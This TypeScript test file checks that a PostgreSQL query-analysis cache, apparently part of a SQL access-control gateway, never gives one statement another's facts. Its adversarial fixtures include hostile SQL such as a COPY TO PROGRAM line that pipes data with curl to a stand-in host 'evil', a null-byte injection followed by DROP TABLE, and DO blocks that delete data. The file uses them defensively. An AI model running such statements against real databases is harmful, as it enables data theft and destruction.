import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { fingerprintSync, scanSync } from 'libpg-query';
import { Decider, type DecisionContext } from '../decide.js';
import type { SqlFacts } from '../facts.js';
import {
  analyzePostgres,
  analyzePostgresUncached,
  literalSpansFor,
  loadPostgresAnalyzer,
  postgresCacheStats,
} from './postgres.js';
import { BYPASSES, ORDINARY } from './postgres-corpus.js';

before(loadPostgresAnalyzer);

/** Pairs whose facts depend on a string constant that PostgreSQL's normalization replaces. */
const HIDDEN_IN_CONSTANTS: Array<[string, string]> = [
  ['DO $$ BEGIN DROP TABLE a; END $$', 'DO $$ BEGIN PERFORM 1; END $$'],
  ["DO LANGUAGE plpgsql 'BEGIN DELETE FROM users; END'", "DO LANGUAGE plpgsql 'BEGIN NULL; END'"],
  ["COPY t FROM '/tmp/x'", 'COPY t FROM STDIN'],
  ["COPY t TO PROGRAM 'curl -d @- evil'", "COPY t TO '/tmp/x'"],
  [
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT count(*) FROM users'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
  ],
  [
    'CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN TRUNCATE a; END $$',
    'CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN NULL; END $$',
  ],
];

/** Texts with different facts that a careless key (fingerprint, truncated or lexical) would equate. */
const ADVERSARIAL: Array<[string, string]> = [
  ...HIDDEN_IN_CONSTANTS,
  ['WITH users AS (SELECT 1) SELECT * FROM users', 'WITH u AS (SELECT 1) SELECT * FROM users'],
  ['SELECT * FROM pg_temp_1.t', 'SELECT * FROM pg_temp_2.t'],
  ['SELECT 2', 'SELECT 1\u0000; DROP TABLE users'],
  ['SELECT ssn FROM U&"!0075sers" UESCAPE \'!\'', 'SELECT ssn FROM U&"!0075sers" UESCAPE \'#\''],
  ['SELECT * FROM t WHERE a IN (1, 2)', 'SELECT * FROM t WHERE a IN (1, (SELECT 1 FROM users))'],
  ['PREPARE p AS SELECT 1', 'PREPARE p AS DELETE FROM users'],
];

/** What ORMs and scripts send with values inlined: every literal class, in many positions. */
const LITERAL_HEAVY = [
  "INSERT INTO events (id, name, ratio, note, bits, raw, uni) VALUES (1, 'a', 2.5, E'x\\n', B'101', X'ff', U&'d\\0061t')",
  "SELECT * FROM orders WHERE created > '2024-01-01'::date - interval '3 days' ORDER BY id LIMIT 10 OFFSET 20",
  "SELECT id FROM orders WHERE status IN ('paid', 'shipped') AND total BETWEEN 10 AND 20.5",
  "UPDATE accounts SET balance = balance - 100, note = $$refund$$ WHERE id = 42 AND region = ANY(ARRAY['eu', 'us'])",
  "DELETE FROM sessions WHERE expires_at < now() - interval '1 hour' AND user_id = -7",
  'WITH r AS (SELECT * FROM orders WHERE id > 5) SELECT count(*) FILTER (WHERE total > 1e3) FROM r',
  "SET search_path TO app, 'public'",
  "SET work_mem = '64MB'",
  "SELECT 'users'::regclass, 'DROP TABLE users'",
  "SELECT pg_sleep(1), lower('X'), coalesce(NULL, 3)",
  'EXPLAIN SELECT * FROM orders WHERE id = 1',
  "CREATE TABLE t (a int DEFAULT 5, b text DEFAULT 'x' CHECK (b <> ''))",
  'SELECT 1; DELETE FROM orders WHERE id = 2',
];

/**
 * `sql` with every constant replaced by another of its kind (strings, dollar-quoted bodies,
 * numbers, bit and hex strings), so the text differs only where the normalizer puts `$n`.
 */
function withOtherLiterals(sql: string, n: number): string {
  let tokens: ReturnType<typeof scanSync>['tokens'];
  try {
    tokens = scanSync(sql).tokens;
  } catch {
    return sql;
  }
  // Token offsets count bytes of the UTF-8 text the scanner saw.
  const bytes = Buffer.from(sql);
  const out: Buffer[] = [];
  let at = 0;
  for (const tok of tokens) {
    const text = bytes.subarray(tok.start, tok.end).toString();
    let other: string | undefined;
    if (tok.tokenName === 'ICONST') other = String(7 + n);
    else if (tok.tokenName === 'FCONST') other = `${7 + n}.5`;
    else if (tok.tokenName === 'SCONST') other = `'v${n}'`;
    else if (/^[bB]'/.test(text)) other = n % 2 ? "B'1'" : "B'0'";
    else if (/^[xX]'/.test(text)) other = `X'${n}'`;
    else if (/^[uU]&'/.test(text)) other = `U&'u${n}'`;
    if (other === undefined) continue;
    out.push(bytes.subarray(at, tok.start), Buffer.from(other));
    at = tok.end;
  }
  out.push(bytes.subarray(at));
  return Buffer.concat(out).toString();
}

/**
 * Facts as they hold for `sql`: shared facts carry the constant spans of the text first analyzed,
 * and `literalSpansFor` places this text's own.
 */
function placed(facts: SqlFacts, sql: string): SqlFacts {
  const spans = literalSpansFor(facts, sql);
  if (!spans) return facts;
  return {
    ...facts,
    statements: facts.statements.map((s, si) => ({
      ...s,
      values: s.values.map((v, vi) => ({ ...v, literal: spans[si]?.[vi] ?? null })),
    })),
  };
}

/** What the cache must give for `sql`: exactly what a fresh analysis gives, its constants placed. */
function assertCachedEqualsFresh(sql: string): SqlFacts {
  const cached = analyzePostgres(sql);
  assert.deepEqual(placed(cached, sql), analyzePostgresUncached(sql), JSON.stringify(sql));
  return placed(cached, sql);
}

describe('postgres analysis cache', () => {
  // Prefixes a comment (kept by the normalizer) so a pair is never an exact hit from an earlier round.
  let round = 0;

  it('gives every corpus text and its literal variants the facts of a fresh analysis, after a sibling warmed the cache', () => {
    const texts = [...BYPASSES.map((c) => c.sql), ...ORDINARY, ...LITERAL_HEAVY, ...ADVERSARIAL.flat()];
    const before = postgresCacheStats();
    let variants = 0;
    for (const sql of texts) {
      const [warm, other] = [withOtherLiterals(sql, 1), withOtherLiterals(sql, 2)];
      if (warm !== sql) variants++;
      assertCachedEqualsFresh(warm);
      assertCachedEqualsFresh(sql);
      assertCachedEqualsFresh(other);
    }
    // Not vacuous: the variants really differ, and many were answered by the normalized level.
    assert.ok(variants >= 40, `only ${variants} texts had literals to vary`);
    assert.ok(postgresCacheStats().normalizedHits - before.normalizedHits >= 40);
  });

  it('answers adversarial pairs in either order with their own facts', () => {
    for (const [a, b] of ADVERSARIAL) {
      for (const [first, second] of [
        [a, b],
        [b, a],
      ] as const) {
        // A fresh text each round, so the second is never an exact-text hit from the first round.
        const salt = `/* round ${++round} */ `;
        assertCachedEqualsFresh(salt + first);
        assertCachedEqualsFresh(salt + second);
      }
      assert.notDeepEqual(
        { ...analyzePostgresUncached(a), fingerprint: null },
        { ...analyzePostgresUncached(b), fingerprint: null },
        `${a} / ${b} should differ, or the pair proves nothing`,
      );
    }
  });

  it('never serves DO, CREATE FUNCTION or COPY from the normalized level', () => {
    for (const [a, b] of HIDDEN_IN_CONSTANTS) {
      const salt = `/* round ${++round} */ `;
      analyzePostgres(salt + a);
      const hits = postgresCacheStats().normalizedHits;
      assertCachedEqualsFresh(salt + b);
      assert.equal(postgresCacheStats().normalizedHits, hits, b);
    }
  });

  it('keys on normalized text, not the fingerprint, which equates different temp schemas', () => {
    const [a, b] = ['SELECT * FROM pg_temp_1.t', 'SELECT * FROM pg_temp_2.t'];
    assert.equal(fingerprintSync(a), fingerprintSync(b));
    assert.notDeepEqual(analyzePostgres(a).statements, analyzePostgres(b).statements);
  });

  it('answers a statement that differs only in literals from the normalized level with the same object', () => {
    const first = analyzePostgres('SELECT a, 1 FROM shape_t LIMIT 10');
    const before = postgresCacheStats();
    const second = analyzePostgres("SELECT a, 'two' FROM shape_t LIMIT 20");
    const after = postgresCacheStats();
    assert.equal(after.normalizedHits - before.normalizedHits, 1);
    assert.equal(after.misses, before.misses);
    assert.equal(second, first);
    assert.ok(Object.isFrozen(second) && Object.isFrozen(second.statements[0]));
    // The fingerprint ignores constants, so the shared one is the sibling's own.
    assert.equal(
      second.fingerprint,
      analyzePostgresUncached("SELECT a, 'two' FROM shape_t LIMIT 20").fingerprint,
    );
    // Sent again, the exact text is the cheaper level.
    analyzePostgres("SELECT a, 'two' FROM shape_t LIMIT 20");
    assert.equal(postgresCacheStats().exactHits - after.exactHits, 1);
  });

  it('shares facts whose values are tied to columns, each text with the spans of its own constants', () => {
    const salt = `/* round ${++round} */ `;
    const a = `${salt}SELECT * FROM shape_v WHERE ssn = '1' AND id = 2`;
    const b = `${salt}SELECT * FROM shape_v WHERE ssn = 'O''Hara-12' AND id = -30`;
    analyzePostgres(a);
    const hits = postgresCacheStats().normalizedHits;
    const facts = assertCachedEqualsFresh(b);
    assert.equal(postgresCacheStats().normalizedHits, hits + 1);
    assert.deepEqual(
      facts.statements[0]?.values.map((v) => v.literal && b.slice(v.literal.start, v.literal.end)),
      ["'O''Hara-12'", '-30'],
    );
  });

  it('does not share between a parameter and a constant, whose normalized keys are equal', () => {
    for (const [a, b] of [
      ['SELECT * FROM shape_v WHERE ssn = $1', "SELECT * FROM shape_v WHERE ssn = '123-45-6789'"],
      ["SELECT * FROM shape_v WHERE ssn = '123-45-6789'", 'SELECT * FROM shape_v WHERE ssn = $1'],
      ['SELECT * FROM shape_v WHERE ssn = $1 LIMIT 5', 'SELECT * FROM shape_v WHERE ssn = 7 LIMIT 5'],
    ] as const) {
      const salt = `/* round ${++round} */ `;
      analyzePostgres(salt + a);
      const hits = postgresCacheStats().normalizedHits;
      assertCachedEqualsFresh(salt + b);
      assert.equal(postgresCacheStats().normalizedHits, hits, b);
    }
  });

  it('lets the Decider reuse one decision for statements that differ only in literals', () => {
    const decider = new Decider([]);
    const ctx: DecisionContext = {
      connection: { name: 'db', tags: [], protocol: 'postgres', default: 'allow' },
      caller: { subject: 'alice', groups: [], kind: 'human', chain: [] },
    };
    const one = decider.decide(ctx, analyzePostgres('SELECT x + 1 FROM shape_u OFFSET 10'));
    const two = decider.decide(ctx, analyzePostgres('SELECT x + 2 FROM shape_u OFFSET 20'));
    assert.equal(two, one);
  });
});
